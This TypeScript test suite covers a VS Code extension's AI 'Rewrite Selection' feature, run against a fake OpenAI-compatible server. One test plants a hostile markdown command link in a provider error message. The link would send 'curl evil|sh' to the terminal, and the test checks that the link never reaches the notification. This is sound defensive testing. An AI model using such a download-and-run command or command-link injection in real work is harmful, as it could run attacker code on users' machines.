import * as assert from 'node:assert/strict';
import * as vscode from 'vscode';
import type { RewriteCommandResult } from '../../src/commands/rewriteSelection';
import type { AcceptResult } from '../../src/editor/rewriteController';
import type { ChorusApi } from '../../src/extension';
import { openaiErrorReply, sseReply, startFakeProvider, textChunks, type FakeProvider } from '../fixtures/fakeProvider';
import { OPENAI_SETTINGS, pointOpenAiAt, resetChorusSettings } from './openAiSettings';
import { closeUntitledEditors, openUntitled } from './untitledEditor';

type Body = { messages: Array<{ role: string; content: string }> };

const config = (): vscode.WorkspaceConfiguration => vscode.workspace.getConfiguration('chorus');

function select(editor: vscode.TextEditor, fromLine: number, fromChar: number, toLine: number, toChar: number): void {
  editor.selection = new vscode.Selection(fromLine, fromChar, toLine, toChar);
}

function rewrite(instruction: string): Thenable<RewriteCommandResult> {
  return vscode.commands.executeCommand<RewriteCommandResult>('chorus.rewriteSelection', { instruction });
}

const accept = (): Thenable<AcceptResult> => vscode.commands.executeCommand<AcceptResult>('chorus.acceptRewrite');

function previewTabs(): vscode.Tab[] {
  return vscode.window.tabGroups.all.flatMap((g) => g.tabs).filter((t) => t.input instanceof vscode.TabInputTextDiff && t.input.modified.scheme === 'chorus-rewrite');
}

/** Waits (within the test's own time limit) until `probe` gives something. */
async function until<T>(probe: () => T | undefined | false): Promise<T> {
  for (;;) {
    const value = probe();
    if (value) return value;
    await new Promise((resolve) => setTimeout(resolve, 20));
  }
}

/**
 * Runs Rewrite Selection ("round it") with the answer held back until `release()`, so a test can act
 * while it waits; resolves once the request has reached the fake server.
 */
async function heldRewrite(fake: FakeProvider, answer: string): Promise<{ running: Thenable<RewriteCommandResult>; release: () => void }> {
  let release = (): void => undefined;
  const gate = new Promise<void>((resolve) => (release = resolve));
  fake.enqueue(async () => {
    await gate;
    return sseReply(textChunks(answer));
  });
  const count = fake.requests.length;
  const running = rewrite('round it');
  await fake.waitForRequests(count + 1);
  return { running, release };
}

const CLASS_SOURCE = [
  'class Totals {',
  '  sum(items: number[]): number {',
  '    let total = 0;',
  '    for (const i of items) total += i;',
  '    return total;',
  '  }',
  '}',
  '',
].join('\n');

describe('Rewrite Selection', () => {
  let fake: FakeProvider;
  let api: ChorusApi;

  before(async () => {
    api = await vscode.extensions.getExtension<ChorusApi>('chorus-dev.chorus')!.activate();
    fake = await startFakeProvider();
    await pointOpenAiAt(fake.baseUrl);
  });

  afterEach(async () => {
    await vscode.commands.executeCommand('chorus.rejectRewrite');
    // Untitled documents are reverted so closing them asks nothing.
    await closeUntitledEditors();
  });

  after(async () => {
    await resetChorusSettings(OPENAI_SETTINGS);
    await fake.close();
  });

  it('accept replaces exactly the selection: fenced answer, prose dropped, indentation kept', async () => {
    const editor = await openUntitled(CLASS_SOURCE);
    select(editor, 2, 0, 4, 0);
    fake.enqueue(sseReply(textChunks('Sure! Here it is:\n\n```ts\nlet total = items.reduce((s, i) => s + i, 0);\n```\n\nThis is shorter.')));
    const result = await rewrite('use reduce');
    assert.equal(result.state, 'ready');
    assert.equal(previewTabs().length, 1, 'the diff preview is open');
    assert.equal(api.currentRewrite()?.proposed, '    let total = items.reduce((s, i) => s + i, 0);\n');

    const body = fake.requests.at(-1)!.body as Body;
    assert.equal(body.messages[0]!.role, 'system');
    const user = body.messages[1]!.content;
    assert.match(user, /```typescript\n {4}let total = 0;\n {4}for \(const i of items\) total \+= i;\n\n```/);
    assert.match(user, /just before it \(context only\):\n```typescript\nclass Totals \{\n {2}sum\(items: number\[\]\): number \{\n```/);
    assert.match(user, /just after it \(context only\):\n```typescript\n {4}return total;/);
    assert.match(user, /Instruction: use reduce$/);

    const outcome = await accept();
    assert.deepEqual(outcome, { applied: true, moved: false });
    assert.equal(
      editor.document.getText(),
      CLASS_SOURCE.replace('    let total = 0;\n    for (const i of items) total += i;\n', '    let total = items.reduce((s, i) => s + i, 0);\n'),
    );
    assert.equal(previewTabs().length, 0, 'the preview is closed');
    assert.equal(api.currentRewrite(), undefined);
  });

  it('one undo after accept restores the document', async () => {
    const editor = await openUntitled(CLASS_SOURCE);
    select(editor, 4, 4, 4, 17);
    fake.enqueue(sseReply(textChunks('```ts\nreturn total | 0;\n```')));
    assert.equal((await rewrite('force an integer')).state, 'ready');
    assert.equal((await accept()).applied, true);
    assert.equal(editor.document.getText(), CLASS_SOURCE.replace('return total;', 'return total | 0;'));
    await vscode.commands.executeCommand('undo');
    assert.equal(editor.document.getText(), CLASS_SOURCE);
  });

  it('takes an unfenced answer as the code', async () => {
    const editor = await openUntitled('const add = (a, b) => a + b;\n', 'javascript');
    select(editor, 0, 22, 0, 27);
    fake.enqueue(sseReply(textChunks('Number(a) + Number(b)')));
    assert.equal((await rewrite('coerce to numbers')).state, 'ready');
    assert.equal((await accept()).applied, true);
    assert.equal(editor.document.getText(), 'const add = (a, b) => Number(a) + Number(b);\n');
  });

  it("never writes a thinking model's reasoning: neither reasoning_content nor a <think> block in the content", async () => {
    const editor = await openUntitled('const add = (a, b) => a + b;\n', 'javascript');
    select(editor, 0, 22, 0, 27);
    const thinking = { id: 'x', object: 'chat.completion.chunk', created: 1, model: 'fake-model', choices: [{ index: 0, delta: { reasoning_content: 'Reasoning field' }, finish_reason: null }] };
    // Three characters a delta: both tags arrive cut in pieces.
    fake.enqueue(sseReply([thinking, ...textChunks('<think>Use Number() 👋 here</think>\n\nNumber(a) + Number(b)', { piece: 3 })]));
    assert.equal((await rewrite('coerce to numbers')).state, 'ready');
    assert.equal((await accept()).applied, true);
    assert.equal(editor.document.getText(), 'const add = (a, b) => Number(a) + Number(b);\n');
  });

  it('keeps a CRLF document CRLF', async () => {
    const original = 'def f(x):\r\n    y = x * 2\r\n    return y\r\n';
    const editor = await openUntitled(original, 'python');
    assert.equal(editor.document.eol, vscode.EndOfLine.CRLF);
    select(editor, 1, 0, 3, 0);
    fake.enqueue(sseReply(textChunks('```python\ny = x * 2\nif y > 10:\n    y = 10\nreturn y\n```')));
    assert.equal((await rewrite('cap at 10')).state, 'ready');
    assert.equal((await accept()).applied, true);
    assert.equal(editor.document.getText(), 'def f(x):\r\n    y = x * 2\r\n    if y > 10:\r\n        y = 10\r\n    return y\r\n');
  });

  it('reject leaves the file byte-identical and closes the preview', async () => {
    const uri = vscode.Uri.joinPath(vscode.workspace.workspaceFolders![0]!.uri, 'sample.ts');
    const editor = await vscode.window.showTextDocument(uri);
    const before = editor.document.getText();
    const version = editor.document.version;
    select(editor, 1, 0, 2, 0);
    fake.enqueue(sseReply(textChunks('```ts\n  return b + a;\n```')));
    assert.equal((await rewrite('swap the operands')).state, 'ready');
    assert.equal(previewTabs().length, 1);
    assert.equal(await vscode.commands.executeCommand('chorus.rejectRewrite'), true);
    assert.equal(editor.document.getText(), before);
    assert.equal(editor.document.version, version, 'no edit was made at all');
    assert.equal(editor.document.isDirty, false);
    assert.equal(previewTabs().length, 0);
    assert.equal(api.currentRewrite(), undefined);
    assert.deepEqual(await accept(), { applied: false, reason: 'none' });
  });

  it('cancel while streaming stops the request and leaves the document byte-identical', async () => {
    const editor = await openUntitled(CLASS_SOURCE);
    const version = editor.document.version;
    select(editor, 2, 0, 4, 0);
    const chunks = textChunks('```ts\nlet total = 0; // a very long answer that is still arriving\n', { piece: 4 });
    fake.enqueue(sseReply([...chunks.slice(0, 6), { delayMs: 60_000 }, ...chunks.slice(6)]));
    const running = rewrite('annotate');
    await until(() => api.currentRewrite()?.proposed);
    assert.equal(api.currentRewrite()?.state, 'streaming');
    assert.deepEqual(await accept(), { applied: false, reason: 'streaming' }, 'a partial proposal cannot be accepted');
    await vscode.commands.executeCommand('chorus.rejectRewrite');
    assert.equal((await running).state, 'cancelled');
    await fake.requests.at(-1)!.closed;
    assert.equal(editor.document.getText(), CLASS_SOURCE);
    assert.equal(editor.document.version, version);
    assert.equal(previewTabs().length, 0);
  });

  it('follows the code when lines are added above it while generating', async () => {
    const editor = await openUntitled(CLASS_SOURCE);
    select(editor, 4, 4, 4, 17);
    const { running, release } = await heldRewrite(fake, '```ts\nreturn Math.round(total);\n```');
    await editor.edit((b) => b.insert(new vscode.Position(0, 0), '// Totals of numbers.\n'));
    release();
    assert.equal((await running).state, 'ready');
    assert.deepEqual(await accept(), { applied: true, moved: false });
    assert.equal(editor.document.getText(), `// Totals of numbers.\n${CLASS_SOURCE.replace('return total;', 'return Math.round(total);')}`);
  });

  it('does not apply when the selected code itself changed while generating, and keeps the proposal', async () => {
    const editor = await openUntitled(CLASS_SOURCE);
    select(editor, 4, 4, 4, 17);
    const { running, release } = await heldRewrite(fake, '```ts\nreturn Math.round(total);\n```');
    await editor.edit((b) => b.replace(new vscode.Range(4, 11, 4, 16), 'sum'));
    const edited = editor.document.getText();
    release();
    assert.equal((await running).state, 'ready');
    assert.deepEqual(await accept(), { applied: false, reason: 'changed' });
    assert.equal(editor.document.getText(), edited, 'the document was not touched');
    assert.equal(api.currentRewrite()?.state, 'ready', 'the proposal is still available');
    assert.equal(api.currentRewrite()?.proposed, 'return Math.round(total);');
  });

  it('re-anchors to the unchanged code when an edit inside it was undone', async () => {
    const editor = await openUntitled(CLASS_SOURCE);
    select(editor, 4, 4, 4, 17);
    const { running, release } = await heldRewrite(fake, 'return Math.round(total);');
    await editor.edit((b) => b.insert(new vscode.Position(4, 10), ' '));
    await editor.edit((b) => b.delete(new vscode.Range(4, 10, 4, 11)));
    release();
    assert.equal((await running).state, 'ready');
    assert.deepEqual(await accept(), { applied: true, moved: true });
    assert.equal(editor.document.getText(), CLASS_SOURCE.replace('return total;', 'return Math.round(total);'));
  });

  it('a provider error reports the provider\'s message in the log, never as a link in the notification, and changes nothing', async () => {
    const editor = await openUntitled(CLASS_SOURCE);
    select(editor, 2, 0, 4, 0);
    const link = '[Fix it](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)';
    fake.enqueue(openaiErrorReply(400, `The model \`fake-model\` does not support this request. ${link}`, { code: '[x](command:chorus.setApiKey)' }));
    const result = await rewrite('use reduce');
    assert.equal(result.state, 'failed');
    assert.match(result.message ?? '', /OpenAI-compatible/);
    assert.match(result.message ?? '', /HTTP 400/);
    assert.doesNotMatch(result.message ?? '', /\]\(/, 'no link syntax reaches the notification');
    assert.doesNotMatch(result.message ?? '', /does not support this request/, 'the provider\'s words stay out of the notification');
    assert.match(result.details ?? '', /does not support this request/, 'the provider\'s words are in the details');
    assert.equal(editor.document.getText(), CLASS_SOURCE);
    assert.equal(api.currentRewrite(), undefined);
    assert.equal(previewTabs().length, 0);
  });

  it('a missing key offers Set API Key and sends nothing', async () => {
    await config().update('provider', 'qianfan-v2', vscode.ConfigurationTarget.Global);
    try {
      const editor = await openUntitled(CLASS_SOURCE);
      select(editor, 2, 0, 4, 0);
      const count = fake.requests.length;
      const result = await rewrite('use reduce');
      assert.equal(result.state, 'failed');
      assert.match(result.message ?? '', /no API key is set for Qianfan v2/);
      assert.equal(fake.requests.length, count);
      assert.equal(editor.document.getText(), CLASS_SOURCE);
    } finally {
      await config().update('provider', 'openai', vscode.ConfigurationTarget.Global);
    }
  });

  it('shows Cancel above the code while the model writes, then Accept, Reject and Show Changes', async () => {
    const editor = await openUntitled(CLASS_SOURCE);
    select(editor, 4, 4, 4, 17);
    const lenses = async (): Promise<Array<{ line: number; command: string }>> =>
      (await vscode.commands.executeCommand<vscode.CodeLens[]>('vscode.executeCodeLensProvider', editor.document.uri))
        .filter((lens) => lens.command?.command.startsWith('chorus.'))
        .map((lens) => ({ line: lens.range.start.line, command: lens.command!.command }));
    const { running, release } = await heldRewrite(fake, '```ts\nreturn Math.round(total);\n```');
    assert.deepEqual(await lenses(), [{ line: 4, command: 'chorus.showRewrite' }, { line: 4, command: 'chorus.rejectRewrite' }]);
    release();
    assert.equal((await running).state, 'ready');
    assert.deepEqual((await lenses()).map((l) => `${l.line} ${l.command}`), ['4 chorus.acceptRewrite', '4 chorus.rejectRewrite', '4 chorus.showRewrite']);
    // Closing the diff keeps the proposal; Show Changes opens it again.
    await vscode.window.tabGroups.close(previewTabs());
    assert.equal(previewTabs().length, 0);
    await vscode.commands.executeCommand('chorus.showRewrite');
    assert.equal(previewTabs().length, 1);
    await vscode.commands.executeCommand('chorus.rejectRewrite');
    assert.deepEqual(await lenses(), []);
    assert.equal(editor.document.getText(), CLASS_SOURCE);
  });

  it('offers Explain and Rewrite in the lightbulb for selected code only', async () => {
    const editor = await openUntitled(CLASS_SOURCE);
    const actions = await vscode.commands.executeCommand<vscode.CodeAction[]>('vscode.executeCodeActionProvider', editor.document.uri, new vscode.Range(2, 0, 4, 0));
    const ours = actions.filter((a) => a.command?.command.startsWith('chorus.'));
    assert.deepEqual(ours.map((a) => a.command!.command).sort(), ['chorus.explainSelection', 'chorus.rewriteSelection']);
    const none = await vscode.commands.executeCommand<vscode.CodeAction[]>('vscode.executeCodeActionProvider', editor.document.uri, new vscode.Range(2, 0, 2, 0));
    assert.equal(none.filter((a) => a.command?.command.startsWith('chorus.')).length, 0);
  });
});
